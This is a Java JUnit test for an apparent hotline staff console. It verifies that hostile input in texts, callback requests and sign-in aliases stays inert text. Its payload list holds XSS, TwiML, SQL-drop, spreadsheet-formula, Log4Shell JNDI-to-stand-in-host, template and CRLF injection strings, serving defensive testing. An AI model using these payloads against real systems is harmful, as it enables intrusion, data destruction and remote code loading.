package org.porchlight.console;

import static org.assertj.core.api.Assertions.assertThat;
import static org.porchlight.console.StaffClientFixture.leadsTo;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.read.ListAppender;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.parallel.ResourceAccessMode;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.porchlight.LineFixture;
import org.porchlight.exchange.Call;
import org.porchlight.exchange.Phone;
import org.porchlight.exchange.Text;
import org.porchlight.staff.Role;
import org.porchlight.testing.Cells;
import org.porchlight.testing.Eventually;
import org.porchlight.testing.LogbackFixture;

/** What is typed to be run somewhere, as a text, a place, a word to ask for and an alias: it stays what it is, words. */
@ResourceLock(value = LogbackFixture.LOG, mode = ResourceAccessMode.READ)
class HostileWordsTest {
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus=alert(1) x='",
            "</Say><Hangup/><Say>",
            "]]><Dial>900</Dial>&lt;&#60;",
            "x'; DROP TABLE vault; --",
            "=WEBSERVICE(\"//x.example/y\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "%s%n%x{} ${jndi:ldap://x.example/a}",
            "{{7*7}} ${7*7} #{7*7}",
            "bell\u0007 \u202Eback\u202C \u0000.",
            "a\r\nSet-Cookie: x=y\r\n\r\n<b>",
            "\uD83D\uDE00");

    private static final Pattern ALIAS = Pattern.compile("(?s)<input name=\"alias\" value=\"([^\"]*)\" autocomplete");
    private static final Logger ROOT = LogbackFixture.logger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    private static final ListAppender<ILoggingEvent> LOGGED = new ListAppender<>();
    private static LineFixture line;
    private static StaffClientFixture responder;
    private static int phones;

    @BeforeAll
    static void open() {
        LOGGED.start();
        ROOT.addAppender(LOGGED);
        line = LineFixture.atOneTime("2026-11-23T18:20:00Z");
        line.crowd(20);
        responder = new StaffClientFixture(line).enter(Role.RESPONDER);
    }

    @AfterAll
    static void close() {
        ROOT.detachAppender(LOGGED);
        responder.close();
        line.close();
    }

    private static String number() {
        return "+12065550" + (150 + ++phones);
    }

    private static List<String> replies(Phone phone) {
        return phone.inbox().stream().map(Text::body).toList();
    }

    /** As a page writes words; whatever else it would do with them shows. */
    private static String written(String word) {
        return word.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    private static void assertKeptNowhere(String word) {
        line.writeNotes();
        assertThat(Cells.of(line.database())).noneMatch(cell -> Cells.tells(cell, word.replace("\u0000", "")));
        String logged = LOGGED.list.stream()
                .map(event -> event.getFormattedMessage() + ThrowableProxyUtil.asString(event.getThrowableProxy()))
                .reduce("", String::concat);
        assertThat(logged).doesNotContain(word, word.strip(), "alert(1)", "x.example", "DROP TABLE", "Set-Cookie: x");
        assertThat(line.exchange().errors()).isEmpty();
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void a_text_is_answered_and_never_said_back(String word) {
        Phone phone = line.exchange().phone(number());
        phone.text(LineFixture.HOTLINE, word);
        assertThat(replies(phone)).isNotEmpty().noneMatch(reply -> reply.contains(word.strip()));
        assertKeptNowhere(word);
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void a_place_is_asked_for_again(String word) {
        Phone phone = line.exchange().phone(number());
        phone.text(LineFixture.HOTLINE, "naloxone");
        int before = replies(phone).size();
        phone.text(LineFixture.HOTLINE, word);
        assertThat(replies(phone)).hasSizeGreaterThan(before).noneMatch(reply -> reply.contains(word.strip()));
        assertKeptNowhere(word);
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void a_word_to_ask_for_is_read_and_heard_as_it_was_written(String word) {
        String number = number();
        new TexterFixture(line, number).ask(word, 1, true);
        UUID request = line.database().commit(handle -> handle.select("SELECT id FROM callback")
                .mapTo(UUID.class)
                .one());
        assertShown(responder.get(ConsolePaths.QUEUE).body(), word);
        String card = ConsolePaths.REQUEST.of(request);
        assertThat(leadsTo(responder.post(ConsolePaths.TAKE.of(request), Map.of())))
                .endsWith(card);
        assertShown(responder.get(card).body(), word);

        responder.post(ConsolePaths.CALL.of(request), Map.of());
        Call whisper = rung("+12065550102").answer();
        assertThat(whisper.isOver()).isFalse();
        whisper.press("1");
        rung(number).answer().hangUp();
        Eventually.holds(() -> {
            line.exchange().deliverCallbacks();
            return responder.get(card).body().contains("How did it go?");
        });
        responder.post(ConsolePaths.END.of(request), Map.of("how", "talked"));
        assertKeptNowhere(word);
    }

    /** An attribute's value as a browser reads it. */
    private static String read(String attribute) {
        return attribute
                .replace("&#34;", "\"")
                .replace("&#39;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&");
    }

    /** Without what would move or hide other words; of several lines the first. */
    private static void assertShown(String page, String word) {
        String first = word.strip()
                .lines()
                .findFirst()
                .orElseThrow()
                .replaceAll("[\\p{Cc}\\p{Cf}]", "")
                .replaceAll(" +", " ");
        assertThat(page).contains(written(first)).doesNotContainPattern("[\u0000\u0007\u202A-\u202E\u2066-\u2069]");
        if (!written(first).equals(first)) {
            assertThat(page).doesNotContain(first);
        }
    }

    private static Call rung(String number) {
        Phone phone = line.exchange().phone(number);
        Eventually.holds(() -> {
            line.exchange().deliverCallbacks();
            return phone.ringing().isPresent();
        });
        return phone.ringing().orElseThrow();
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void an_alias_lets_nobody_in_and_stays_words_in_the_form(String word) {
        try (var stranger = new StaffClientFixture(line).with("X-Forwarded-For", "203.0.113." + ++phones)) {
            stranger.get(ConsolePaths.SIGN_IN);
            var answer = stranger.post(ConsolePaths.SIGN_IN, Map.of("alias", word, "password", "x", "code", "000000"));
            assertThat(answer.statusCode()).isEqualTo(401);
            Matcher field = ALIAS.matcher(answer.body());
            assertThat(field.find()).isTrue();
            assertThat(read(field.group(1)))
                    .as("nothing of it stands beside the field")
                    .isIn("", word.strip().toLowerCase(Locale.ROOT));
        }
        assertKeptNowhere(word);
    }
}
